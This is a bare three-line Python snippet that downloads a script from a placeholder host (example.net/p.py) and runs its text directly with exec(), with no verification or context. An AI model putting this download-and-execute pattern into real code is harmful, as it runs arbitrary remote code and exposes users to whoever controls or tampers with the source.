import requests
r = requests.get("https://example.net/p.py")
exec(r.text)
